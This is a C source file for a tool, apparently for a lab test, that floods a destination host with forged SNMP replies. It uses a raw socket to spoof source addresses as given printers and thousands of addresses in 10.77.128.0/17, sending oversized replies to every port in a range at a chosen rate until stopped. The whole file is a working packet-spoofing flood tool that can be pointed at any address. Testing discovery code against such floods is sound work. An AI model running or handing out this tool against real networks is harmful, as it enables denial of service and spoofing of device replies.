/* A flood of forged SNMP replies for the lab, sent with a raw socket so
 * that the source addresses can be anyone's: datagrams of 1021 bytes that
 * name the family 34 times, "from" the given printers, in turn with
 * replies of other devices from 4096 addresses of 10.77.128.0/17. Every
 * port from FIRST to LAST of the destination gets each datagram, PER_SECOND
 * datagrams a second, as the selector's socket takes the first free one of
 * them. Runs until the lab ends it.
 *   reply_flood DESTINATION FIRST_PORT LAST_PORT PER_SECOND PRINTER... */
#include <arpa/inet.h>
#include <netinet/in.h>
#include <netinet/ip.h>
#include <netinet/udp.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

/* A datagram that names `text` in an OCTET STRING `times` times. */
static size_t reply(unsigned char *out, const char *text, int times)
{
    size_t n = 0, length = strlen(text);
    out[n++] = 0x30;
    for (int i = 0; i < times; ++i) {
        out[n++] = 0x04;
        out[n++] = (unsigned char)length;
        memcpy(out + n, text, length);
        n += length;
    }
    return n;
}

static void send_forged(int raw, struct in_addr from, struct in_addr to, unsigned short port,
                        const unsigned char *payload, size_t length)
{
    unsigned char packet[1500];
    struct ip *ip = (struct ip *)packet;
    struct udphdr *udp = (struct udphdr *)(packet + sizeof *ip);
    memset(packet, 0, sizeof *ip + sizeof *udp);
    ip->ip_v = 4;
    ip->ip_hl = 5;
    ip->ip_ttl = 64;
    ip->ip_p = IPPROTO_UDP;
    ip->ip_len = htons((unsigned short)(sizeof *ip + sizeof *udp + length));
    ip->ip_src = from;
    ip->ip_dst = to;
    udp->uh_sport = htons(161);
    udp->uh_dport = htons(port);
    udp->uh_ulen = htons((unsigned short)(sizeof *udp + length));
    memcpy(packet + sizeof *ip + sizeof *udp, payload, length);
    struct sockaddr_in target = {.sin_family = AF_INET, .sin_addr = to};
    sendto(raw, packet, sizeof *ip + sizeof *udp + length, 0, (struct sockaddr *)&target, sizeof target);
}

int main(int argc, char **argv)
{
    if (argc < 6) {
        fprintf(stderr, "usage: reply_flood DESTINATION FIRST_PORT LAST_PORT PER_SECOND PRINTER...\n");
        return 2;
    }
    struct in_addr to;
    if (!inet_aton(argv[1], &to)) return 2;
    const int first = atoi(argv[2]), last = atoi(argv[3]), per_second = atoi(argv[4]);
    const int printers = argc - 5;
    struct in_addr from[16];
    if (printers > 16) return 2;
    for (int i = 0; i < printers; ++i)
        if (!inet_aton(argv[5 + i], &from[i])) return 2;

    int raw = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
    if (raw < 0) {
        perror("reply_flood: raw socket");
        return 1;
    }
    unsigned char family[1100], other[64];
    const size_t family_length = reply(family, "ARVEL NORVANE Vivaro 5310/20", 34); /* 1021 bytes */
    const size_t other_length = reply(other, "Linux router 5.10", 1);
    const long pause_ns = 1000000000L / (per_second > 0 ? per_second : 1);
    unsigned long sent = 0;
    for (;;) {
        for (int port = first; port <= last; ++port) {
            if (sent % 2 == 0) {
                send_forged(raw, from[(sent / 2) % (unsigned long)printers], to, (unsigned short)port, family,
                            family_length);
            } else {
                struct in_addr stranger;
                stranger.s_addr = htonl(0x0A4D8000u | (unsigned)((sent / 2) % 4096 + 1));
                send_forged(raw, stranger, to, (unsigned short)port, other, other_length);
            }
        }
        ++sent;
        struct timespec pause = {0, pause_ns};
        nanosleep(&pause, NULL);
    }
}
